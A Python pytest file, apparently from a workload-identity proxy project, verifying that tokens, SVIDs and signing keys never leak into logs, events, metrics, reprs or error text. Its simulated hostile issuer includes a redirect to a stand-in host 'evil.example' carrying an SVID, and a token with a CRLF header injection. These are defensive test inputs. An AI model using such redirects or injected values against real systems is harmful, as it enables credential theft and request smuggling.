"""No token, SVID or signing key ever shows up in logs, OCSF events, metrics, the agent's
answers or the repr/str of the objects and exceptions on the path - end to end, with real
parts: raw agent requests → proxy → GrantEngine → local identity agent (Workload API,
JWT-SVIDs) → loopback token endpoint → TLS upstream.

Everything is captured (every logger at DEBUG, every event) while the flow runs through
success, cache hits, forged agent headers, issuer rejections that echo the SVID back, a
malformed token and an issuer redirect; then each secret is searched for everywhere.
"""

from __future__ import annotations

import json
import logging
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from prometheus_client import CollectorRegistry, generate_latest

from grantbox.grants import GrantEngine, GrantError
from grantbox.identity import WorkloadIdentityClient
from grantbox.identity_agent import IdentityAgent
from grantbox.profiles import EffectiveConfig
from tests.support.identity_agent import running_agent
from tests.support.proxy_clients import parse_replies, read_all, tunnel
from tests.support.proxy_harness import endpoint, grant_profile, make_config, running_proxy
from tests.support.proxy_upstream import RecordingUpstream
from tests.support.token_endpoint import Behaviour, TokenEndpoint, running_token_endpoint

from .conftest import LOOPBACK

TRUST_DOMAIN = "example.org"


@pytest.fixture
async def agent(tmp_path: Path) -> AsyncIterator[IdentityAgent]:
    async with running_agent(tmp_path, trust_domain=TRUST_DOMAIN, oidc=True) as running:
        yield running


@pytest.fixture
async def workload(agent: IdentityAgent) -> AsyncIterator[WorkloadIdentityClient]:
    path = agent.add_workload("s1", "/grantbox/sandbox/s1")
    client = WorkloadIdentityClient(str(path), call_timeout=2.0, deadline=3.0)
    try:
        yield client
    finally:
        await client.aclose()


@pytest.fixture
async def issuer(agent: IdentityAgent) -> AsyncIterator[TokenEndpoint]:
    assert agent.oidc_url is not None
    async with running_token_endpoint(oidc_url=agent.oidc_url, trust_domain=TRUST_DOMAIN) as ep:
        yield ep


def _config(upstream_port: int, token_url: str, audience: str = "api://alpha") -> EffectiveConfig:
    """Each audience is a fresh cache key, so each hostile answer is really asked for."""
    profile = grant_profile(
        "alpha",
        [endpoint("alpha.localhost", upstream_port, allowed_ips=LOOPBACK)],
        token_endpoint=token_url,
        audience=audience,
    )
    return make_config(providers=[("alpha", profile)])


def _secrets_of(agent: IdentityAgent, issuer: TokenEndpoint) -> dict[str, str]:
    """Every secret the flow produced: tokens, SVIDs (whole and signature), key material."""
    found: dict[str, str] = {}
    for index, token in enumerate(issuer.issued):
        found[f"token{index}"] = token
    for index, form in enumerate(issuer.forms()):
        for svid in form.get("client_assertion", []):
            found[f"svid{index}"] = svid
            found[f"svid{index}-signature"] = svid.rsplit(".", 1)[1]
    ring = agent._authority.ring  # test-only look at the signing keys
    for key in ring.published:
        pem_lines = key.private_pem().decode().splitlines()[1:-1]
        found[f"key-{key.kid}"] = "".join(pem_lines)[16:64]  # a run no public value has
    return found


async def _request(port: int, upstream_port: int, ca_file: Path, headers: str = "") -> bytes:
    async with tunnel(port, "alpha.localhost", upstream_port, ca_file) as (reader, writer):
        writer.write(
            f"GET /v1/whoami HTTP/1.1\r\nHost: alpha.localhost:{upstream_port}\r\n{headers}"
            "Connection: close\r\n\r\n".encode()
        )
        return await read_all(reader)


async def test_no_secret_escapes_anywhere(
    agent: IdentityAgent,
    workload: WorkloadIdentityClient,
    issuer: TokenEndpoint,
    tls_upstream: RecordingUpstream,
    upstream_ca_file: Path,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    registry = CollectorRegistry()
    engine = GrantEngine(
        workload, connect_timeout=1.0, total_timeout=3.0, registry=registry, jitter=lambda: 0.0
    )
    port = tls_upstream.port
    config = _config(port, issuer.token_url)
    answers: list[bytes] = []
    failures: list[GrantError] = []
    try:
        async with running_proxy(config, engine, tmp_path, upstream_ca_file=upstream_ca_file) as rp:
            # 1. success, then a cache hit; the agent forges an Authorization header
            answers.append(
                await _request(
                    rp.port, port, rp.ca_file, "Authorization: Bearer forged-by-agent\r\n"
                )
            )
            answers.append(await _request(rp.port, port, rp.ca_file))
            assert [r.status for a in answers for r in parse_replies(a)] == [200, 200]
            svid = issuer.forms()[0]["client_assertion"][0]
            signature = svid.rsplit(".", 1)[1]

            # 2. fresh grants that fail in ways that quote secrets back at us
            hostile = [
                Behaviour.echo_assertion("bad assertion {assertion}"),
                Behaviour.echo_assertion("signature {signature} did not verify"),
                Behaviour.echo_assertion("{signature}", status=400),
                Behaviour.invalid_client(f"old assertion {svid}"),
                Behaviour.answer(400, {"error": signature, "error_description": svid[-200:]}),
                Behaviour.grant(access_token=f"{svid}\r\nX-Injected: 1"),
                Behaviour.redirect(f"https://evil.example/?assertion={svid}"),
                Behaviour.answer(500, f"boom {svid}".encode()),
            ]
            for behaviour in hostile:
                issuer.behave(behaviour)
                fresh = _config(port, issuer.token_url, f"api://alpha-{len(failures)}")
                rp.proxy.update(fresh)
                answers.append(await _request(rp.port, port, rp.ca_file))
                try:
                    await engine.obtain(fresh.bindings.bindings[0])
                except GrantError as error:
                    failures.append(error)
            events = json.dumps(rp.events)
            metrics = generate_latest(rp.registry).decode() + generate_latest(registry).decode()
            shown = " ".join([repr(rp.proxy), repr(engine), repr(workload), repr(agent)])
    finally:
        await engine.aclose()

    assert len(failures) == len(hostile)
    assert all(parse_replies(a)[0].status == 502 for a in answers[2:])
    secrets = _secrets_of(agent, issuer)
    assert any(name.startswith("token") for name in secrets)
    assert any(name.startswith("svid") for name in secrets)
    # httpcore's own DEBUG records quote response headers verbatim (a hostile issuer's
    # Location here); that is the HTTP library's trace output, not ours - see README gaps.
    ours = "\n".join(
        r.getMessage() for r in caplog.records if not r.name.startswith(("httpcore", "hpack"))
    )
    places: dict[str, str] = {
        "logs": ours,
        "events": events,
        "metrics": metrics,
        # (the first two answers are the upstream's own, which echoes what it received)
        "answers": b"".join(answers[2:]).decode("latin-1"),
        "reprs": shown,
        "exceptions": " ".join(repr(e) + str(e) + e.detail for e in failures),
    }
    leaks = [
        (name, where)
        for name, value in secrets.items()
        for where, text in places.items()
        if value in text
    ]
    assert leaks == [], leaks
    assert "forged-by-agent" not in events and "forged-by-agent" not in ours
    # the real token did reach the upstream - the only place it belongs
    assert tls_upstream.requests[0].header("authorization") == [f"Bearer {issuer.issued[0]}"]
